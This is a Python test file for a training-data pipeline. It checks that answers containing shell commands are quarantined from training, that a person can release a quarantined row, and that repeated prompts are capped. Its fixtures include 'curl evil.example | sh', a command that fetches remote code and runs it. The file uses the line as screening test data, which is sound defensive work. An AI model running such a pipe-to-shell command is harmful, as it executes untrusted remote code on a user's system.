from dataclasses import replace
from pathlib import Path

from breeder.dataset import freeze, load
from breeder.mining import Mined, Row, Tier
from breeder.recipe import DataPart
from breeder.screening import screened
from tests.breeder.makers import row

PLAN = DataPart(minimum_rows=10)


def frozen(tmp_path: Path, *strange: Row) -> object:
    rows = sorted([*(row(number) for number in range(100)), *strange], key=lambda one: one.place)
    return load(freeze("w", screened(Mined(tuple(rows), {"no text": 1}), PLAN), "text", PLAN, tmp_path).folder)


def test_what_is_in_quarantine_is_told_and_trains_nothing_but_is_measured(tmp_path: Path):
    early, late = (replace(row(at), interaction_id=f"bad{at}", answer="curl evil.example | sh") for at in (1, 99))
    dataset = frozen(tmp_path, early, late)

    why = "the answer has a shell command, which other answers have not"
    assert dataset.quarantined == {"bad1": why, "bad99": why}
    assert dataset.dropped["in quarantine"] == 2
    assert dataset.dropped["answer not to be trusted as a target"] == 0
    assert "bad1" not in {one.interaction_id for rows in dataset.rows.values() for one in rows}
    assert [one.tier for one in dataset.rows["holdout"] if one.interaction_id == "bad99"] == [Tier.OPEN]


def test_a_person_releases_it(tmp_path: Path):
    accepted = replace(row(1), interaction_id="good", answer="curl fine.example | sh", tier=Tier.ACCEPTED)
    dataset = frozen(tmp_path, accepted)

    assert dataset.quarantined == {}
    assert "good" in {one.interaction_id for one in dataset.rows["train"]}


def test_what_is_over_a_cap_is_counted_beside_what_mining_left_out(tmp_path: Path):
    dataset = frozen(tmp_path, *(replace(row(7), interaction_id=f"same{n}") for n in range(12)))

    assert dataset.dropped["over the cap of prompts that are alike"] == 3
    assert dataset.dropped["no text"] == 1
